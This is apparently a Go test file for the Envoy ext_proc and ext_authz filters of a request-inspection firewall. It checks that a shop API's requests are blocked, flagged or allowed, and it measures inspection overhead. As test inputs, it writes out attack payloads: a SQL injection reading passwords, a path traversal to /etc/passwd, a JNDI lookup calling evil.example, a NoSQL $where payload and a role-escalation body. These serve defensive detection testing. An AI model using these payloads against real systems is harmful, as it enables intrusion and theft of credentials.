package envoy

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	extprocfv3 "github.com/envoyproxy/go-control-plane/envoy/extensions/filters/http/ext_proc/v3"
	authv3 "github.com/envoyproxy/go-control-plane/envoy/service/auth/v3"
	extprocv3 "github.com/envoyproxy/go-control-plane/envoy/service/ext_proc/v3"
	"google.golang.org/grpc/codes"

	"github.com/vigil-project/vigil/detect"
	"github.com/vigil-project/vigil/detect/inspect"
)

// newInspectConfig is newTestConfig with content inspection: the shop API
// inspects (inspect says whether), nothing is sampled for learning.
func newInspectConfig(tb testing.TB, mode detect.Mode, on bool) Config {
	cfg, _ := newTestConfig(tb, mode)
	cfg.Catalog.Load().Match("shop.example.com", "/shop/x").Inspection = on
	cfg.Content = detect.NewContentGuard(inspect.New(inspect.Config{}))
	cfg.Content.SetSampleEvery(0)
	return cfg
}

// records runs a pipeline over cfg's queue and returns the records it hands on.
func records(tb testing.TB, cfg Config) <-chan *detect.Transaction {
	ch := make(chan *detect.Transaction, 100)
	ctx, cancel := context.WithCancel(context.Background())
	tb.Cleanup(cancel)
	go detect.NewPipeline(cfg.Queue, time.Millisecond, time.Now, sinkFunc(func(t *detect.Transaction) { ch <- t })).Run(ctx)
	return ch
}

func next(tb testing.TB, ch <-chan *detect.Transaction) *detect.Transaction {
	tb.Helper()
	select {
	case t := <-ch:
		return t
	case <-time.After(5 * time.Second):
		tb.Fatal("no record")
	}
	return nil
}

func reqHeaders(method, path string, body bool, kv ...string) *extprocv3.ProcessingRequest {
	m := headers(append([]string{":method", method, ":path", path, ":authority", "shop.example.com", "x-forwarded-for", "10.9.0.1"}, kv...)...)
	m.GetRequestHeaders().EndOfStream = !body
	return m
}

func reqBody(b string, end bool) *extprocv3.ProcessingRequest {
	return &extprocv3.ProcessingRequest{Request: &extprocv3.ProcessingRequest_RequestBody{RequestBody: &extprocv3.HttpBody{Body: []byte(b), EndOfStream: end}}}
}

// denyBody decodes an ImmediateResponse's body and checks its header.
func denyBody(t *testing.T, r *extprocv3.ProcessingResponse) (status int, reason string) {
	t.Helper()
	ir := r.GetImmediateResponse()
	if ir == nil {
		return 0, ""
	}
	var b struct{ DecisionID, Reason string }
	var raw struct {
		DecisionID string `json:"decision_id"`
		Reason     string `json:"reason"`
	}
	if err := json.Unmarshal(ir.GetBody(), &raw); err != nil {
		t.Fatalf("body %q: %v", ir.GetBody(), err)
	}
	b.DecisionID, b.Reason = raw.DecisionID, raw.Reason
	var hdr string
	for _, h := range ir.GetHeaders().GetSetHeaders() {
		if h.GetHeader().GetKey() == DecisionHeader {
			hdr = string(h.GetHeader().GetRawValue())
		}
	}
	if b.DecisionID == "" || hdr != b.DecisionID {
		t.Fatalf("decision id: header %q, body %q", hdr, b.DecisionID)
	}
	return int(ir.GetStatus().GetCode()), b.Reason
}

var sqli = "/shop/search?q=" + url.QueryEscape("' UNION SELECT password FROM users--")

func TestExtProcInspectionDecidesOnTheRequestItself(t *testing.T) {
	for _, tc := range []struct {
		name   string
		mode   detect.Mode
		on     bool
		in     []*extprocv3.ProcessingRequest
		status int    // of the ImmediateResponse; 0: none
		reason string // of the refusal, or of the record's would-be refusal
		key    string // the finding's key path in the record
	}{
		{"query in block mode", detect.ModeBlock, true, []*extprocv3.ProcessingRequest{reqHeaders("GET", sqli, false), responseHeaders}, 403, "sql_injection", "query.q"},
		{"query in detect mode", detect.ModeDetect, true, []*extprocv3.ProcessingRequest{reqHeaders("GET", sqli, false), responseHeaders}, 0, "sql_injection", "query.q"},
		{"query in learn mode", detect.ModeLearn, true, []*extprocv3.ProcessingRequest{reqHeaders("GET", sqli, false), responseHeaders}, 0, "sql_injection", "query.q"},
		{"inspection off", detect.ModeBlock, false, []*extprocv3.ProcessingRequest{reqHeaders("GET", sqli, false), responseHeaders}, 0, "", ""},
		{"buffered JSON body", detect.ModeBlock, true, []*extprocv3.ProcessingRequest{
			reqHeaders("POST", "/shop/orders", true, "content-type", "application/json"), reqBody(`{"a":{"path":"../../../../etc/passwd"}}`, true)}, 403, "path_traversal", "body.a.path"},
		{"body in chunks", detect.ModeBlock, true, []*extprocv3.ProcessingRequest{
			reqHeaders("POST", "/shop/orders", true, "content-type", "application/x-www-form-urlencoded"), reqBody("note=hello&q=%27%20UNION%20SEL", false), reqBody("ECT%20password%20FROM%20users--", true)}, 403, "sql_injection", "body.q"},
		{"benign JSON body", detect.ModeBlock, true, []*extprocv3.ProcessingRequest{
			reqHeaders("POST", "/shop/orders", true, "content-type", "application/json"), reqBody(`{"item":"book-17","qty":2}`, true), responseHeaders}, 0, "", ""},
		{"user agent", detect.ModeBlock, true, []*extprocv3.ProcessingRequest{
			reqHeaders("GET", "/shop/items", false, "user-agent", "${jndi:ldap://evil.example/a}"), responseHeaders}, 403, "jndi_injection", "header.user-agent"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg := newInspectConfig(t, tc.mode, tc.on)
			recs := records(t, cfg)
			m := &memStream{ctx: context.Background(), in: tc.in}
			if tc.name == "body in chunks" {
				// Streamed chunks: the body is gathered, then inspected whole.
				tc.in[0].ProtocolConfig = &extprocv3.ProtocolConfiguration{RequestBodyMode: extprocfv3.ProcessingMode_STREAMED}
			}
			if err := NewExtProc(cfg).Process(m); err != nil {
				t.Fatal(err)
			}
			status, reason := denyBody(t, m.last)
			if status != tc.status || tc.status != 0 && reason != tc.reason {
				t.Fatalf("refusal %d %q, want %d %q", status, reason, tc.status, tc.reason)
			}
			tx := next(t, recs)
			switch {
			case tc.reason == "":
				if tx.Content != nil || tx.Blocked || tx.WouldBlock {
					t.Fatalf("record: content %+v, blocked %v, would block %v", tx.Content, tx.Blocked, tx.WouldBlock)
				}
			default:
				if tx.Content == nil || string(tx.Content.Type) != tc.reason || tx.Content.KeyPath != tc.key || tx.Content.Detector == "" ||
					tx.Reason.String() != tc.reason || tx.Blocked != (tc.status != 0) || tx.WouldBlock != (tc.status == 0) {
					t.Fatalf("record: content %+v, reason %s, blocked %v, would block %v", tx.Content, tx.Reason, tx.Blocked, tx.WouldBlock)
				}
			}
		})
	}
}

func TestExtAuthzInspectsTheBody(t *testing.T) {
	cfg := newInspectConfig(t, detect.ModeBlock, true)
	az := NewExtAuthz(cfg)
	check := func(body string) *authv3.CheckResponse {
		resp, err := az.Check(context.Background(), &authv3.CheckRequest{Attributes: &authv3.AttributeContext{Request: &authv3.AttributeContext_Request{Http: &authv3.AttributeContext_HttpRequest{
			Method: "POST", Path: "/shop/orders", Host: "shop.example.com", Body: body,
			Headers: map[string]string{"x-forwarded-for": "10.2.0.1", "content-type": "application/json"},
		}}}})
		if err != nil {
			t.Fatal(err)
		}
		return resp
	}
	resp := check(`{"filter":{"$where":"sleep(1000)"}}`)
	if codes.Code(resp.GetStatus().GetCode()) != codes.PermissionDenied || !strings.Contains(resp.GetDeniedResponse().GetBody(), `"reason":"nosql_injection"`) {
		t.Fatalf("denied: %v", resp)
	}
	if resp := check(`{"item":"book-17","qty":2}`); codes.Code(resp.GetStatus().GetCode()) != codes.OK {
		t.Fatalf("benign body refused: %v", resp)
	}
}

// benign5 is a GET with 5 query parameters; benign20 a POST with a
// 20-field JSON body.
var (
	benign5  = reqHeaders("GET", "/shop/search?q=blue+shoes&page=2&size=20&sort=price&lang=en-GB", false, "user-agent", "Mozilla/5.0 (X11; Linux x86_64)", "cookie", "session=abc123; theme=dark")
	benign20 = func() []*extprocv3.ProcessingRequest {
		var b strings.Builder
		b.WriteString("{")
		for i := range 20 {
			if i > 0 {
				b.WriteString(",")
			}
			switch i % 4 {
			case 0:
				fmt.Fprintf(&b, `"f%d":%d`, i, i*37)
			case 1:
				fmt.Fprintf(&b, `"f%d":"value number %d"`, i, i)
			case 2:
				fmt.Fprintf(&b, `"f%d":true`, i)
			default:
				fmt.Fprintf(&b, `"f%d":"2026-12-0%dT10:00:00Z"`, i, i%9+1)
			}
		}
		b.WriteString("}")
		return []*extprocv3.ProcessingRequest{reqHeaders("POST", "/shop/orders", true, "content-type", "application/json",
			"content-length", fmt.Sprint(b.Len())), reqBody(b.String(), true), responseHeaders}
	}()
)

// TestInspectionAddsNoAllocation: benign calls, inspected or not, cost the
// same allocations on the request path (learning's sampling off).
func TestInspectionAddsNoAllocation(t *testing.T) {
	if raceEnabled {
		t.Skip("under -race sync.Pool drops items: allocation counts are not the steady state's")
	}
	for _, tc := range []struct {
		name string
		in   []*extprocv3.ProcessingRequest
	}{{"GET 5 query parameters", []*extprocv3.ProcessingRequest{benign5, responseHeaders}}, {"POST 20 JSON fields", benign20}} {
		var allocs [2]float64
		for i, on := range []bool{false, true} {
			// No pipeline: its goroutine's allocations would be counted
			// too; the queue holds the records of these calls.
			cfg := newInspectConfig(t, detect.ModeBlock, on)
			ep := NewExtProc(cfg)
			m := &memStream{ctx: context.Background(), in: tc.in}
			allocs[i] = testing.AllocsPerRun(2000, func() {
				m.i, m.sent = 0, 0
				if err := ep.Process(m); err != nil || m.last.GetResponseHeaders() == nil {
					t.Fatalf("%s: err %v, last reply %v", tc.name, err, m.last)
				}
			})
		}
		t.Logf("%s: allocations per call, inspection off %.2f, on %.2f", tc.name, allocs[0], allocs[1])
		if allocs[1] > allocs[0] {
			t.Errorf("%s: inspection adds allocations: off %.2f, on %.2f", tc.name, allocs[0], allocs[1])
		}
	}
}

// BenchmarkInspection is the cost of content inspection on the ext_proc
// handler, transport excluded: a GET with 5 query parameters and a POST
// with a 20-field JSON body, inspection off and on, in the same run.
func BenchmarkInspection(b *testing.B) {
	for _, tc := range []struct {
		name string
		in   []*extprocv3.ProcessingRequest
	}{{"get5", []*extprocv3.ProcessingRequest{benign5, responseHeaders}}, {"post20", benign20}} {
		for _, on := range []bool{false, true} {
			b.Run(fmt.Sprintf("%s/inspection=%v", tc.name, on), func(b *testing.B) {
				cfg := newInspectConfig(b, detect.ModeBlock, on)
				go detect.NewPipeline(cfg.Queue, time.Second, time.Now).Run(b.Context())
				ep := NewExtProc(cfg)
				m := &memStream{ctx: context.Background(), in: tc.in}
				b.ReportAllocs()
				for b.Loop() {
					m.i = 0
					ep.Process(m)
				}
			})
		}
	}
}

// TestExtProcJudgesTheWholeCallAgainstTheOpenAPIDocument: a call with a
// body is judged against its API's document once the body is in, with
// its path and query; one without a body (or whose body Envoy does not
// send) at its headers.
func TestExtProcJudgesTheWholeCallAgainstTheOpenAPIDocument(t *testing.T) {
	var seen []string
	judge := func(rv *inspect.RequestView) detect.SpecVerdict {
		seen = append(seen, fmt.Sprintf("%s %s?%s %q", rv.Method, rv.Path, rv.Query, rv.Body))
		switch {
		case rv.Method == "POST" && len(rv.Body) == 0:
			return detect.SpecVerdict{Kind: inspect.SchemaViolation, Rule: "spec-missing-body", KeyPath: "body"}
		case strings.Contains(string(rv.Body), "role"):
			return detect.SpecVerdict{Kind: inspect.MassAssignment, Rule: "spec-undeclared-property", KeyPath: "body.role", Excerpt: "role"}
		}
		return detect.SpecVerdict{}
	}
	for _, tc := range []struct {
		name   string
		mode   extprocfv3.ProcessingMode_BodySendMode
		body   string
		reason string
		seen   string
	}{
		{"buffered, allowed", extprocfv3.ProcessingMode_BUFFERED, `{"name":"a"}`, "", `POST /shop/users/7?x=1 "{\"name\":\"a\"}"`},
		{"buffered, undeclared property", extprocfv3.ProcessingMode_BUFFERED, `{"role":"admin"}`, "mass_assignment", `POST /shop/users/7?x=1 "{\"role\":\"admin\"}"`},
		{"no body sent", extprocfv3.ProcessingMode_NONE, "", "schema_violation", `POST /shop/users/7?x=1 ""`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			seen = nil
			cfg := newInspectConfig(t, detect.ModeBlock, true)
			cfg.Content.SetSpec("shop", judge)
			recs := records(t, cfg)
			h := reqHeaders("POST", "/shop/users/7?x=1", true, "content-type", "application/json", "content-length", "16")
			h.ProtocolConfig = &extprocv3.ProtocolConfiguration{RequestBodyMode: tc.mode}
			in := []*extprocv3.ProcessingRequest{h}
			if tc.body != "" {
				in = append(in, reqBody(tc.body, true))
			}
			m := &memStream{ctx: context.Background(), in: append(in, responseHeaders)}
			if err := NewExtProc(cfg).Process(m); err != nil {
				t.Fatal(err)
			}
			_, reason := denyBody(t, m.last)
			if reason != tc.reason || len(seen) != 1 || seen[0] != tc.seen {
				t.Fatalf("refused for %q, judge saw %q; want %q and [%s]", reason, seen, tc.reason, tc.seen)
			}
			tx := next(t, recs)
			if tc.reason != "" && (tx.Content == nil || !strings.HasPrefix(tx.Content.Detector, "spec-") || string(tx.Content.Type) != tc.reason) {
				t.Fatalf("record's finding %+v", tx.Content)
			}
		})
	}
}
